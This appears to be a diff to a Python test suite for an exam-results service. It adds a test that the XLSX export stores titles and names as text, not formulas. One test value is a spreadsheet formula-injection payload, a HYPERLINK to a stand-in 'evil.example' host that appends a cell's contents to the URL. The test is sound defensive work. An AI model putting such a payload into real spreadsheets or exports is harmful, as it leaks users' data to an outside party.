@@ -4,6 +4,7 @@ rosters, time extensions, the live board, regrading after a key correction, resu
 import csv
 import io
 import random
+import zipfile
 from datetime import datetime, timedelta
 from decimal import Decimal
 
@@ -865,6 +866,20 @@ def test_an_export_cell_cannot_become_a_formula(law, make_user, root_unit):
     seed_attempts(exam, batch, person, [70])
     data = results.export_results(SYSTEM, exam, "csv").decode("utf-8")
     assert "'=HYPERLINK(1)" in data
+
+
+def test_every_cell_of_the_xlsx_export_is_text_never_a_formula(law, make_user, root_unit):
+    add_questions("true_false", 10)
+    title = '=HYPERLINK("http://evil.example/?"&B3,"查看成绩")'
+    exam = published_exam(make_blueprint(ten_true_false()), title=title)
+    person = make_user(name="=1+1", login="formula")
+    seed_attempts(exam, make_batch(exam, [person]), person, [70])
+    data = results.export_results(SYSTEM, exam, "xlsx")
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert (sheet["A1"].value, sheet["A1"].data_type) == (title, "s")
+    assert (sheet["A3"].value, sheet["A3"].data_type) == ("=1+1", "s")
 
 
 # --- pages -------------------------------------------------------------------------
